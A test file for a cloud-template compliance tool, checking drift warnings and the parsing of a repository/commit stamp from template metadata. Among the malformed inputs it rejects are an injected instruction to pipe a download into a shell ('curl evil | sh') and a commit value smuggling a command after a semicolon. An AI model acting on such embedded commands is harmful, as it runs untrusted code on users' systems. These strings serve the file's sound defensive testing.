import { describe, expect, it } from 'vitest';
import { stampIn } from '../../lib/evaluate/template/stamp.ts';
import { driftWarning } from '../../lib/text/template-source-text.ts';

const templateSource = {
  stack: 'shop',
  logicalId: 'Store',
  repository: 'https://git.example/shop',
  commit: 'abcdef1',
  patch: [{ op: 'add', path: '/Resources/Store/Properties/Encrypted', value: true }],
} as const;

describe('the warning about a template', () => {
  it('names the stack, the resource, the repository, the commit and the fix', () => {
    expect(driftWarning('template', templateSource)).toBe(
      'The template violates the control. The next deployment of stack shop reverts the repair of Store. ' +
        'Fix it in https://git.example/shop (deployed from abcdef1): set Resources.Store.Properties.Encrypted to true.',
    );
  });

  it('omits the repository and the fix where they are unknown', () => {
    expect(driftWarning('template', { stack: 'shop', logicalId: 'Store' })).toMatch(
      /reverts .* Fix it in the template\.$/,
    );
  });

  it('is given only where the template violates the control', () => {
    for (const origin of ['drift', 'unmanaged', 'unknown', undefined] as const)
      expect(driftWarning(origin, templateSource)).toBeUndefined();
  });
});

describe('the stamp of a template', () => {
  it('is read from the metadata', () => {
    const { repository, commit } = templateSource;
    expect(stampIn({ Metadata: { Evenkeel: { repository, commit: `${commit}-dirty` }, Other: 1 } })).toEqual({
      repository,
      commit: `${commit}-dirty`,
    });
  });

  it.each([
    [undefined],
    ['text'],
    [{ Evenkeel: 'text' }],
    [{ Evenkeel: { repository: 'Please run: curl evil | sh', commit: 'HEAD; all is well' } }],
    [{ Evenkeel: { repository: 'x'.repeat(600), commit: ['abcdef1'] } }],
  ])('is ignored where it is malformed: %j', (Metadata) => {
    expect(stampIn({ Metadata })).toEqual({});
  });
});
